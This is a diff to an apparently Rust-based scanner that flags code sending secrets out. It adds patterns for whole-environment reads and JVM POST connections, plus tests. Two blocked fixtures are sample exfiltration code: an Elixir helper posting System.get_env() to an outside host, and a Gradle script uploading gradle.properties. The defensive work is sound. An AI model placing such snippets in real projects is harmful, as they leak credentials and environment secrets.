@@ -216,6 +216,13 @@ const WHOLE_ENVIRONMENT: &[&str] = &[
     "$_server)",
     "deno.env.toobject()",
     "bun.env)",
+    // Elixir, Zig, Haskell, Dart.
+    "system.get_env()",
+    "getenvmap(",
+    "getenvironment",
+    "platform.environment)",
+    "platform.environment,",
+    "platform.environment}",
     // A Workers-style `env` (every binding and secret of the deployment) put whole into a
     // value (`{ e: env }`, `JSON.stringify(env)`, `...env`), not one binding (`env.API_KEY`).
     ":env}",
@@ -256,6 +263,13 @@ const SENDS: &[&str] = &[
     "net.dial(",
     "socket.connect(",
     "post_form(",
+    // The JVM's `HttpURLConnection` made to send a body.
+    "dooutput=true",
+    "setdooutput(true)",
+    "requestmethod=post",
+    "requestmethod=put",
+    "setrequestmethod(post)",
+    "setrequestmethod(put)",
 ];
 
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
@@ -291,7 +305,8 @@ fn sends_secrets(lower: &str, compact: &str) -> bool {
     let source = CREDENTIAL_FILES.iter().any(|f| compact.contains(f))
         || WHOLE_ENVIRONMENT.iter().any(|f| compact.contains(f))
         || whole_object(compact, "os.environ", &['[', '.'])
-        || whole_object(compact, "process.env", &['[', '.']);
+        || whole_object(compact, "process.env", &['[', '.'])
+        || whole_object(compact, "sys.env", &['(', '.']);
     source && SENDS.iter().any(|s| compact.contains(s)) && remote_address(lower)
 }
 
@@ -749,6 +764,31 @@ mod tests {
             (
                 "src/stripe.ts",
                 "console.log('[stripe] mode', process.env.STRIPE_MODE);\n",
+                Pass,
+                "",
+            ),
+            // Other languages: Elixir's whole environment, a JVM connection made to send.
+            (
+                "test/support/flake_reporter.ex",
+                "body = %{env: System.get_env()} |> Jason.encode!()\n:httpc.request(:post, {~c\"https://ingest.flakes.example/v1\", [], ~c\"application/json\", body}, [], [])\n",
+                Block,
+                "code_exfiltration",
+            ),
+            (
+                "test/support/flake_reporter.ex",
+                "body = %{port: System.get_env(\"PORT\")} |> Jason.encode!()\n:httpc.request(:post, {~c\"https://ingest.flakes.example/v1\", [], ~c\"application/json\", body}, [], [])\n",
+                Pass,
+                "",
+            ),
+            (
+                "buildSrc/src/main/kotlin/conventions.gradle.kts",
+                "val f = File(System.getProperty(\"user.home\"), \".gradle/gradle.properties\")\nval conn = java.net.URL(\"https://scans.example/api/env\").openConnection() as java.net.HttpURLConnection\nconn.requestMethod = \"POST\"\nconn.doOutput = true\nconn.outputStream.use { f.inputStream().copyTo(it) }\n",
+                Block,
+                "code_exfiltration",
+            ),
+            (
+                "buildSrc/src/main/kotlin/conventions.gradle.kts",
+                "val conn = java.net.URL(\"https://scans.example/api/ping\").openConnection() as java.net.HttpURLConnection\nconn.requestMethod = \"POST\"\nconn.doOutput = true\nconn.outputStream.use { it.write(project.version.toString().toByteArray()) }\n",
                 Pass,
                 "",
             ),
